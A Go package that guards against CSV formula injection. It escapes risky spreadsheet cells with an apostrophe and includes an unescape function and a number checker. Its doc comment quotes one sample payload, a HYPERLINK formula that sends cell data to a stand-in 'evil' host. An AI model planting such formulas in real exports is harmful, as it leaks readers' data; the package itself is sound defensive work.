// Package csvsafe keeps the CSV files people open in a spreadsheet from
// running what a cell says. Excel, WPS and LibreOffice read a cell that
// begins with = + - @ (and, after a tab or a carriage return, the same) as
// a formula, so a value such as =HYPERLINK("http://evil/?"&A1) in a
// published dataset would run on the reader's machine (CSV injection).
//
// Cell prefixes such a cell with an apostrophe, which spreadsheets take as
// "this is text" and do not show. A cell that already begins with an
// apostrophe gets one too, so the change is reversible: Unescape(Cell(s))
// == s for every s. Plain numbers (-12.5, +3, 1e5) are left alone: they are
// values, not formulas, and must stay numbers in the sheet.
//
// Only CSV meant for spreadsheets passes through Cell (open.csv, the records
// API's format=csv, catalog.csv, the audit export, the share download).
// Parquet, JSON and NDJSON carry the exact values, and so does
// records?format=csv&raw=true for programs.
package csvsafe

// Cell is s as a spreadsheet shows it without evaluating it.
func Cell(s string) string {
	if !risky(s) {
		return s
	}
	return "'" + s
}

// Record applies Cell to every field of rec, in place, and returns rec.
func Record(rec []string) []string {
	for i, f := range rec {
		if risky(f) {
			rec[i] = "'" + f
		}
	}
	return rec
}

// Unescape undoes Cell: a reader of a file written with Cell gets the
// exact value back. Every cell Cell leaves starting with an apostrophe was
// given it by Cell, so one leading apostrophe is removed.
func Unescape(s string) string {
	if len(s) > 0 && s[0] == '\'' {
		return s[1:]
	}
	return s
}

// risky reports whether a spreadsheet could take s for a formula (or s
// begins with the apostrophe Cell adds).
func risky(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '@', '\t', '\r', '\'':
		return true
	case '+', '-':
		return !IsNumber(s)
	}
	return false
}

// IsNumber reports whether s is a plain decimal number: an optional sign,
// digits with an optional fraction (or a fraction alone), and an optional
// exponent — -12.5, +3, .5, 1e5, -2.5E-3. Nothing else (no spaces, no
// thousands separators, no hex, no Inf or NaN).
func IsNumber(s string) bool {
	i := 0
	if i < len(s) && (s[i] == '+' || s[i] == '-') {
		i++
	}
	digits := 0
	for i < len(s) && isDigit(s[i]) {
		i, digits = i+1, digits+1
	}
	if i < len(s) && s[i] == '.' {
		i++
		for i < len(s) && isDigit(s[i]) {
			i, digits = i+1, digits+1
		}
	}
	if digits == 0 {
		return false
	}
	if i < len(s) && (s[i] == 'e' || s[i] == 'E') {
		i++
		if i < len(s) && (s[i] == '+' || s[i] == '-') {
			i++
		}
		exp := 0
		for i < len(s) && isDigit(s[i]) {
			i, exp = i+1, exp+1
		}
		if exp == 0 {
			return false
		}
	}
	return i == len(s)
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }
